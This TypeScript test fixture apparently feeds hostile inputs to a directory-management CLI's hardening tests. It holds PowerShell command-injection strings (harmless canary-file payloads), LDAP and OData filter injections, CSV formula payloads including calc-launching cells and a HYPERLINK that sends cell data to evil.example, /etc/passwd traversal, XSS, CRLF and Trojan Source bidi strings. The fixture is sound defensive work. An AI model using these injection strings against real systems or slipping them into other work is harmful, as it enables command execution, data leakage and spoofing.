// The shared list of hostile strings for the end-to-end hardening tests (test/e2e/hostile.test.ts):
// PowerShell quoting tricks (ASCII and typographic quotes) around payloads that would create a
// canary file if anything evaluated them, LDAP filter and OData metacharacters, CSV formula cells,
// control characters, zero-width, bidirectional and look-alike Unicode, and very long values.
//
// Each string says whether the CLI must refuse it while reading its input (exit 2, before any
// PowerShell starts). The rule is the documented one, written here independently of lib/: after
// trimming, a value is refused when it is empty, longer than 1024 characters, or holds a control
// character (C0, DEL, C1) or a bidirectional / zero-width formatting character. Everything else is
// accepted as data and must then be refused (or stored verbatim) further on, never executed.

export interface HostileString {
  /** Short, unique label for messages. */
  name: string;
  value: string;
  /** Refused while reading the input (flags or CSV), by the documented field rules. */
  refusedAtInput: boolean;
}

/** Longest value a field accepts (README/docs: "far above any real directory value"). */
export const FIELD_LIMIT = 1024;

/**
 * Characters a field must not hold: C0 and C1 controls, DEL, the Arabic letter mark, the
 * zero-width and bidirectional marks, embeddings and overrides (U+202A–U+202E), the invisible
 * operators (U+2060–U+2064), the bidirectional isolates (U+2066–U+2069, "Trojan Source") and the BOM.
 */
export const INVISIBLE_OR_CONTROL = /[\u0000-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/u;

/** The documented input rule for one field value (see the file comment). */
export function expectRefusedAtInput(value: string): boolean {
  const trimmed = value.trim();
  return trimmed === '' || trimmed.length > FIELD_LIMIT || INVISIBLE_OR_CONTROL.test(trimmed);
}

/** A new account's name (givenName, surname, samAccountName on a create row) a spreadsheet would read as a formula: refused at input too. */
export function refusedAsNewName(value: string): boolean {
  return expectRefusedAtInput(value) || /^[=+\-@]/.test(value.trim());
}

/**
 * The hostile strings. `canary` is a file path that must never come into existence: every
 * PowerShell payload below would create it (New-Item, or a .NET call) if it were ever evaluated.
 */
export function hostileStrings(canary: string): HostileString[] {
  const p = `New-Item -ItemType File -Force -Path '${canary}'`;
  const pd = `New-Item -ItemType File -Force -Path "${canary}"`;
  const list: Array<[string, string]> = [
    // PowerShell: ASCII quotes, sub-expressions, operators
    ['single-quote break', `'; ${p}; '`],
    ['double-quote break', `"; ${pd}; "`],
    ['sub-expression', `$(${p})`],
    ['sub-expression in a UPN', `x$(${p})@contoso.com`],
    ['array sub-expression', `@(${p})`],
    ['hashtable literal', `@{ a = (${p}) }`],
    ['backtick-escaped sub-expression', `\`$(${p})`],
    ['backtick-escaped double quote', `a\`"; ${pd}; \`"`],
    ['double-quoted sub-expression', `"$(${p})"`],
    ['bare command', p],
    ['semicolon', `x; ${p}`],
    ['pipe', `x | ${p}`],
    ['ampersand', `x & ${p}`],
    ['and-and', `x && ${p}`],
    ['or-or', `x || ${p}`],
    ['call operator on a script block', `& { ${p} }`],
    ['dot-source a script block', `. { ${p} }`],
    ['string concatenation break', `'+(${p})+'`],
    ['Invoke-Expression', `Invoke-Expression "${p.replace(/"/g, '`"')}"`],
    ['.NET static call', `[System.IO.File]::WriteAllText('${canary}', 'x')`],
    ['stop-parsing token', `--% ${p}`],
    ['parameter-looking value', `-WhatIf:$false -Confirm:$false $(${p})`],
    ['comment break', `#> ${p} <#`],
    ['format operator', `'{0}' -f (${p})`],
    ['environment variable', '$env:UPN_MATCH_SIM_DIR'],
    ['braced variable', '${env:PATH}'],
    ['automatic variables', '$true $null $_ $PSVersionTable'],
    ['here-string break (newline)', `'@\n${p}\n@'`],
    ['AD -Filter break', `*' -or userPrincipalName -like '*`],
    // PowerShell: typographic quotes (PowerShell reads U+2018..U+201B as ' and U+201C..U+201E as ")
    ['U+2018 left single quote', `\u2018; ${p}; \u2018`],
    ['U+2019 right single quote', `\u2019; ${p}; \u2019`],
    ['U+201A low single quote', `\u201a; ${p}; \u201a`],
    ['U+201B reversed single quote', `\u201b; ${p}; \u201b`],
    ['U+201C left double quote', `\u201c$(${p})\u201c`],
    ['U+201D right double quote', `\u201d; ${p}; \u201d`],
    ['U+201E low double quote', `\u201e$(${p})\u201d`],
    ['U+2018/U+2019 around a sub-expression in a UPN', `\u2018$(${p})\u2019@contoso.com`],
    ['U+201C/U+201D around a command', `\u201c; ${p}; \u201d`],
    ['typographic concatenation break', `\u2019+(${p})+\u2018`],
    // LDAP filter metacharacters (RFC 4515)
    ['LDAP star', '*'],
    ['LDAP filter break on userPrincipalName', '*)(userPrincipalName=*'],
    ['LDAP OR injection on sAMAccountName', 'amueller)(|(sAMAccountName=*'],
    ['LDAP full filter', '(&(objectClass=user)(sAMAccountName=*))'],
    ['LDAP backslash', '\\'],
    ['LDAP escaped star', '\\2a'],
    ['LDAP escaped NUL text', 'a\\00b'],
    ['LDAP NUL byte', 'a\u0000b'],
    ['LDAP wildcard DN', 'CN=*,OU=Users,OU=Corp,DC=contoso,DC=local'],
    ['LDAP break after a real UPN', 'anna.mueller@contoso.com)(userPrincipalName=*'],
    // OData string literals and Graph URLs
    ['OData or-true', "' or 1 eq 1 or '"],
    ['OData startswith', "x' or startswith(userPrincipalName,'a') or 'x"],
    ['OData after a real UPN', "anna.mueller@contoso.com' or userPrincipalName ne '"],
    ['OData URL-encoded quote', '%27%20or%20true%20or%20%27'],
    ['query string break', 'a&$filter=true&$top=999'],
    ['path traversal into Graph', '../../directory/onPremisesSynchronization'],
    ['fragment and select', '?$select=*#'],
    ['doubled quote', "o''brien@contoso.com"],
    ['sub-resource of a real user', 'anna.mueller@contoso.com/memberOf'],
    // CSV formula cells
    ['formula =cmd', "=cmd|' /C calc'!A0"],
    ['formula +cmd', "+cmd|' /C calc'!A0"],
    ['formula -cmd', "-2+3+cmd|' /C calc'!A0"],
    ['formula @SUM', "@SUM(1+1)*cmd|' /C calc'!A0"],
    ['formula HYPERLINK', '=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['formula after a tab', '\t=1+1'],
    ['formula after a carriage return', '\r=2+2'],
    ['formula in a UPN', '=1+1@contoso.com'],
    // control characters
    ['bell', 'a\u0007b'],
    ['CRLF', 'a\r\nb@contoso.com'],
    ['ANSI escape', '\u001b[31mred\u001b[0m@contoso.com'],
    ['DEL', 'a\u007fb'],
    ['C1 next line', 'a\u0085b'],
    ['line separator U+2028', 'a\u2028b'],
    // zero-width, bidirectional and look-alike Unicode
    ['zero-width space', 'anna\u200b.mueller@contoso.com'],
    ['zero-width joiner', 'anna\u200d.mueller@contoso.com'],
    ['word joiner', 'anna\u2060.mueller@contoso.com'],
    ['BOM inside', 'anna.mueller\ufeff@contoso.com'],
    ['right-to-left override', 'anna.mueller@contoso.com\u202egpj.exe'],
    ['left-to-right embedding', '\u202aanna.mueller@contoso.com'],
    ['right-to-left isolate (Trojan Source)', 'anna.mueller\u2067@contoso.com\u2069'],
    ['first-strong isolate', '\u2068amueller\u2069'],
    ['Arabic letter mark', 'anna\u061c.mueller@contoso.com'],
    ['Cyrillic a in an ASCII UPN', '\u0430nna.mueller@contoso.com'],
    ['Cyrillic o in the domain', 'anna.mueller@cont\u043eso.com'],
    ['Cyrillic sAMAccountName', '\u0430mueller'],
    ['fullwidth at sign', 'anna.mueller\uff20contoso.com'],
    ['fullwidth letter', '\uff41nna.mueller@contoso.com'],
    ['combining accent', 'anne\u0301.mueller@contoso.com'],
    ['emoji', '\u{1F600}@contoso.com'],
    // other
    ['UNC path', '\\\\evil.example\\share\\x'],
    ['file path traversal', '../../../../etc/passwd'],
    ['JSON request break', `"},"script":"${canary}.ps1","input":{"x":"`],
    ['prototype key', '__proto__'],
    ['HTML', '<script>alert(1)</script>'],
    ['URL-encoded CRLF', '%0d%0aSet-Cookie:x'],
    // length
    ['1,012 characters (under the field limit)', `${'a'.repeat(1000)}@contoso.com`],
    ['1,025 characters', 'a'.repeat(1025)],
    ['10,000 characters', 'a'.repeat(10_000)],
  ];
  let long = '';
  for (let i = 0; long.length < 10_000; i++) long += `$(${p}); '${i}' \u2019; `;
  list.push(['10,000 characters of payloads', long.slice(0, 10_000)]);
  return list.map(([name, value]) => ({ name, value, refusedAtInput: expectRefusedAtInput(value) }));
}

/** The canonical key the batch reader compares rows by (duplicates are refused). */
export function batchKey(value: string): string {
  return value.trim().toLowerCase();
}
